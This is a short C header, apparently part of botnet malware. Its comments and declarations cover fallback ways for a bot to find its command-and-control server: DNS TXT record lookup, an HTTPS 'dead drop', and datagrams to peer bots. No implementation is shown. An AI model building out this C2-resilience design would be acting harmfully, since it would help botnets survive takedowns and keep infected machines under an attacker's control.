/* C2s that are not in the file, and other bots that are. */
#ifndef REACH_H
#define REACH_H

#include "platform.h"

/* The address that a TXT record of the name gives, or 0. */
ipv4_t address_of_text_record(const char *name);
/* The address that the host at `server` gives over HTTPS's port for this path, or 0. */
ipv4_t address_of_dead_drop(ipv4_t server, const char *host, const char *path);
/* A datagram to the next of the peers. */
void greet_peers(void);

#endif
